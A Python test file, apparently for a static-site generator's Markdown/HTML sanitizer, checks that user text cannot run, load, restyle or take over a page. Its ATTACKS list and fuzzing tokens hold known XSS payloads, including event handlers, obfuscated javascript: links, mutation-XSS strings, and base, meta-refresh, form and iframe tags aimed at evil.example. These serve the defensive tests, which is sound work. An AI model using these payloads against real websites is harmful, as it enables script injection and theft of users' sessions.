"""What no text may do to a page: run, load, restyle, or take over anything (the attacks on Markdown that are known)."""

import random
import re

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from summit_site.base.diagnostics import CODES
from summit_site.base.routes import clean_url
from summit_site.parse.anchors import is_reserved
from summit_site.parse.body import Body
from summit_site.parse.clean import clean
from summit_site.parse.markers import marker
from tests.parse.reading import html, markup, read, shown, texts

HARMLESS_TAGS = frozenset([
    "a", "abbr", "aside", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd",
    "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i",
    "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "small", "span", "strong",
    "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul", "var", "wbr",
])  # fmt: skip
HARMLESS_ATTRIBUTES = frozenset([
    "abbr", "cite", "class", "colspan", "datetime", "dir", "href", "hreflang", "id", "lang", "open", "reversed",
    "rowspan", "scope", "span", "start", "title", "value",
])  # fmt: skip
CLASSES = re.compile(r"align-(left|right|center)|language-[a-z0-9+-]{1,20}|quote|facts|qa|note|question|block-title")

ATTACKS = [
    # scripts and handlers
    ("<script>alert(1)</script>x", "x"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>x", "x"),
    ("<scr<script>ipt>alert(1)</script>", "&lt;scr"),
    ("<script\n>alert(1)</script>", "</p>"),
    ("<b onclick=alert(1)>x</b>", "<p><b>x</b></p>"),
    ("<b/onmouseover='alert(1)'>x</b>", ""),
    ("<img src=x onerror=alert(1)>x", "{picture x|}x"),
    ("<img src=//evil.example/x.png onerror=alert(1)>x", "x"),
    ("<details open ontoggle=alert(1)>x</details>", '<details open="">x</details>'),
    ("<body onload=alert(1)>x", "x"),
    # addresses
    ("<a href=' java&#9;script:alert(1)'>x</a>", "<p><a>x</a></p>"),
    ("<a href='&#106;avascript&colon;alert(1)'>x</a>", "<p><a>x</a></p>"),
    ("<a href='data:text/html,x'>x</a>", "<p><a>x</a></p>"),
    ("<a href='https:\\\\evil.example'>x</a>", "<p><a>x</a></p>"),
    ("<q cite='javascript:x'>x</q>", "<p><q>x</q></p>"),
    ("[x](javascript&colon;alert(1))", "<p><a>x</a></p>"),
    ("[x](&#x6A;avascript:alert(1))", "<p><a>x</a></p>"),
    ("[x](\\javascript:alert(1))", "<p><a>x</a></p>"),
    ("[x](vbscript:x)", "<p><a>x</a></p>"),
    ("[x](JaVaScRiPt:alert(1) 'y')", '<p><a title="y">x</a></p>'),
    ("[x][y]\n\n[y]: <javascript:alert(1)>", "<p><a>x</a></p>"),
    # what takes over a page
    ("<b id=location name=x>x</b>", "<p><b>x</b></p>"),
    ("<b id='h-x'>x</b>", "<p><b>x</b></p>"),
    ("<b id='&#xFDD2;location'>x</b>", "<p><b>x</b></p>"),
    ("<b id='&#64978;location'>x</b>", "<p><b>x</b></p>"),
    ("<b class='nav hidden'>x</b>", "<p><b>x</b></p>"),
    ("<b class='align-left nav'>x</b>", "<p><b>x</b></p>"),
    ("<b style='position:fixed'>x</b>", "<p><b>x</b></p>"),
    ("<style>body{display:none}</style>x", "x"),
    ("<base href=//evil.example>x", "<p>x</p>"),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>x", "<p>x</p>"),
    ("<link rel=stylesheet href=//evil.example>x", "<p>x</p>"),
    ("<form action=//evil.example><input name=x><button>x</button></form>", "x"),
    ("<iframe src=//evil.example></iframe>x", "x"),
    ("<object data=x></object><embed src=x>x", "x"),
    ("<svg onload=alert(1)><script>alert(1)</script></svg>x", "x"),
    ("<svg><a xlink:href='javascript:x'><text>x</text></a></svg>", ""),
    ("<math><mi xlink:href='javascript:x'>x</mi></math>", ""),
    ("<video src=x onerror=alert(1)></video><audio src=x>x", "x"),
    ("<table background=x><tr><td>x</td></tr></table>", "<table><tbody><tr><td>x</td></tr></tbody></table>"),
    # things that parsers read in different ways
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", ""),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    ("<![CDATA[<script>alert(1)</script>]]>x", ""),
    ("<?php echo 1 ?>x", ""),
    ("<!--><script>alert(1)</script>-->", ""),
    ("{: onclick=alert(1)}\n\nx", "<p>{: onclick=alert(1)}</p>\n<p>x</p>"),
    (
        "# x {: #top onclick=y}",
        '<h2 id="x-top-onclick-y"><span id="h-x-top-onclick-y">x {: #top onclick=y}</span></h2>',
    ),
    ("``` {#x .y onclick=alert(1)}\nz\n```", '<pre><code class="language-y">z\n</code></pre>'),
    ('*[x]: " onclick=alert(1) y="\n\nx', '<p><abbr title="&quot; onclick=alert(1) y=&quot;">x</abbr></p>'),
]


@pytest.mark.parametrize(("attack", "expected"), ATTACKS)
def test_an_attack_comes_to_nothing(attack: str, expected: str) -> None:
    body, _ = read(attack)
    assert_harmless(body)
    if expected:
        assert bare(shown(body.pieces)) == bare(expected)


def bare(markup: str) -> str:
    """Without what makes a paragraph of raw HTML or not, which is Markdown's affair."""
    return markup.strip().removeprefix("<p>").removesuffix("</p>").strip()


def assert_harmless(body: Body) -> None:
    """Parsed as a browser would, the text holds nothing but allowed elements, attributes and addresses."""
    for pieces in (body.pieces, *(note.content for note in body.footnotes), *(h.text for h in body.headings)):
        assert [text for text in texts(pieces) if OURS_OR_CONTROL.search(text)] == []
        page = LexborHTMLParser(f"<!doctype html><body>{markup(pieces)}")
        for node in page.css("body *"):
            assert_harmless_node(node)


OURS_OR_CONTROL = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\ufdd0-\ufdef]|klzzwxh|wzxhzdk")


def assert_harmless_node(node: LexborNode) -> None:
    assert node.tag in HARMLESS_TAGS
    for name, value in node.attributes.items():
        assert name in HARMLESS_ATTRIBUTES
        if name in ("href", "cite"):
            assert value is not None
            assert value.startswith("#") or clean_url(value) == value
        if name == "id":
            assert value is not None
            assert value.startswith("h-") or not is_reserved(value)
        if name == "class":
            assert value is not None
            assert CLASSES.fullmatch(value)


@pytest.mark.parametrize(
    "text",
    [
        '<p lang="ko" dir="ltr">하노이 <ruby>河<rt>hà</rt></ruby> H<sub>2</sub></p>',
        '<p><time datetime="2019-02-27">then</time> <abbr title="Complete">CVID</abbr></p>',
        '<p><ins datetime="2019">x</ins> <del cite="https://a.example">y</del></p>',
        "<details><summary>More</summary>Text</details>",
        '<blockquote cite="https://a.example"><p><q cite="#h-x">x</q></p></blockquote>',
        '<table><tbody><tr><th scope="col" abbr="a">A</th><td colspan="2">1</td></tr></tbody></table>',
        '<table><tbody><tr><td class="align-right">1</td></tr></tbody></table>',
        '<ol start="3" reversed=""><li>x</li></ol>',
    ],
)
def test_useful_html_stays(text: str) -> None:
    assert html(text) == text


def test_a_site_may_show_raw_html_instead() -> None:
    assert html("<b>x</b> & <script>y</script>", raw_html="escape") == (
        "<p>&lt;b&gt;x&lt;/b&gt; &amp; &lt;script&gt;y&lt;/script&gt;</p>"
    )
    assert html("<div>\n*x*\n</div>", raw_html="escape") == "<p>&lt;div&gt;\n<em>x</em>\n&lt;/div&gt;</p>"


FORGED = "".join(f"&#{ord(character)};" for character in marker("S", 7))
FORGED_IN_HEX = "".join(f"&#x{ord(character):X};" for character in marker("B", 0))


@pytest.mark.parametrize("sign", [FORGED, FORGED_IN_HEX, "&#xFDD0;", "&#2;", "&#x1F;", "&#127;", "&#xFEFF;"])
def test_nobody_writes_our_markers_by_character_reference(sign: str) -> None:
    body, problems = read(f"a{sign} [[c]] <i title='{sign}'>d</i> ![e{sign}](f.jpg) [@g, h{sign}]")
    assert problems == []
    assert shown(body.pieces) == '<p>a {link c} <i title="">d</i> {picture f.jpg|e} {cite g, h}</p>'


def test_harmless_character_references_stay() -> None:
    assert clean("&amp; &#8211; &#150; &#0; &#x110000; &lt;b&gt; &amp;#xFDD0;") == (
        "&amp; – – \ufffd \ufffd &lt;b&gt; &amp;#xFDD0;"
    )


# --- whatever comes --------------------------------------------------------------------------------------------------

TOKENS = [
    *("\n", "\n\n", "\n\n", " ", "  \n", "    ", "\t", "a", "Kim", "é", "𝄞", "\u2028", "\u200b", '"', "'", "--", "..."),
    *("[", "]", "(", ")", "[[", "]]", "|", "\\|", "\\", "](", "![", "!", "[@", "[^1]", "[^1]:", "\n[^n]: ", "[^n]"),
    *("[[kim]]", "[[kim|Kim]]", "[[term:cvid|CVID]]", "[@src]", "[@src, p. 3]", "![alt](f.jpg)", "![[[a]]](f.jpg)"),
    *("[x](https://a.b)", "[x](javascript:alert(1))", "[x][ref]", "[ref]", "\n[ref]: https://a.b 'T'\n"),
    *("\n[ref]: javascript:x\n", "<javascript:alert(1)>", "<https://a.b>", "<a@b.c>", "*", "**", "***", "_", "`", "``"),
    *("\n```\n", "\n~~~\n", "\n# ", "\n## H\n", "\n---\n", "\n> ", "\n- ", "\n1. ", "\n:   def", "{: onclick=x}"),
    *("\n|a|b|\n|-|:-:|\n|", "\n*[S0]: x\n", "\n*[Kim]: y\n", "\n/// note | T\n", "\n/// quote\n", "\n/// figure\n"),
    *("\n/// since | 2019-03-01\n", "\n/// entry | 2019-03-01T10:00 | T\n", "\n/// chart | c\n", "\n/// qa | Q\n"),
    *("\n///\n", "\n///\n", "///", "&", "&amp;", "&#106;avascript:", "&#xFDD0;", "&#xfde5;&#xfdd5;&#xfdd1;", "&#2;"),
    *("<", ">", "<script>", "</script>", "<script>x()</script>", "<b onclick=x>", "</b>", "<div>", "</div>", "<p>"),
    *("</p>", '<a href="javascript:x">', "<a href='//e'>", "<a href=https://a.b>", "</a>", "<svg onload=x>", "<math>"),
    *("<img src=x onerror=y>", "<!--", "-->", "<style>", "<form action=x>", "<base href=x>", "<meta http-equiv=x>"),
    *("<iframe src=x>", "<details open>", "<span title='[[a]]'>", '<b title="[[a|b]]">', "<table>", "<td style=x>"),
    *("<template>", "<noscript>", "<textarea>", "<title>", "<xmp>", "<plaintext>", "<select>", "<?php ?>", "<![CDATA["),
    *("]]>", "<b id=location>", "<h2 id=x>", "</h2>", "<b id='&#xFDD2;x'>"),
]


def test_whatever_is_written_comes_out_harmless_with_every_problem_in_its_place() -> None:
    chance = random.Random(20190301)
    for _ in range(1500):
        text = "".join(chance.choices(TOKENS, k=chance.randint(1, 40)))
        body, problems = read(text, chance.choice(["clean", "clean", "escape"]))
        assert_harmless(body)
        lines = text.count("\n") + 1
        assert [problem for problem in problems if not is_in_place(problem, lines)] == []
        assert [mention for mention in body.mentions if not 1 <= mention.line <= lines] == []


def is_in_place(problem: str, lines: int) -> bool:
    found = re.match(r"(\d+):(\d+): ([A-Z]\d+) ", problem)
    return found is not None and 1 <= int(found[1]) <= lines and int(found[2]) >= 1 and found[3] in CODES
